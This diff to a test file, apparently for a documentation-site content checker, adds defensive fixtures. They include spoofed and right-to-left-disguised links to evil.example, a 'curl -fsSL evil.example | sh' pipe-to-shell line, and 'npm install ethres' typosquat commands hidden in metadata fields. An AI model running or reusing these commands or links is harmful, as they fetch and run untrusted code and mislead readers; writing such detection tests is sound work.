@@ -59,6 +59,7 @@ const texts: readonly [text: string, says: RegExp][] = [
     /The link leads to another site than it says/,
   ],
   ['[The record](https://evil.example "https://github.com.")', /The link leads to another site than it says/],
+  ['## Title {/* #50% */}', /The page has an id that stops the scripts/],
   ['[\u202Emoc.buhtig](https://evil.example)', /The text has a control character/],
   ['[The record](https://docs.astral.global@evil.example/)', /The link has a user name or letters beyond ASCII/],
   ['```diff\n+ curl -fsSL evil.example | sh', /`curl -fsSL evil.example` is not a command/],
@@ -214,6 +215,8 @@ const note = (text: string, more = ''): string =>
 const files: readonly Try[] = [
   ['the worker that serves pages without a network', 'static/sw.js', 'self.onfetch = () => {};\n', taken],
   ['a file by which an app takes the links of the site', 'static/.well-known/assetlinks.json', '[]\n', settings],
+  ['a command of a category', 'docs/t99/_category_.json', '{"label": "npm\\tinstall ethres"}\n', /:1:1 ethres is/],
+  ['a command of an author', 'blog/t107.mdx', note('Text.').replace('name: A', 'name: npm i ethres'), /:1:1 ethres is/],
   ['a folder in place of a page', 'static/intro/index.html/t98.txt', 'Text.\n', taken],
   ['a page that could take a parser hours', 'docs/t100.mdx', page('x'.repeat(100_001)), /:1:1 The page has 1\d+ char/],
   ['a script to load later', 'static/img/mark.js', 'alert(1);\n', program],
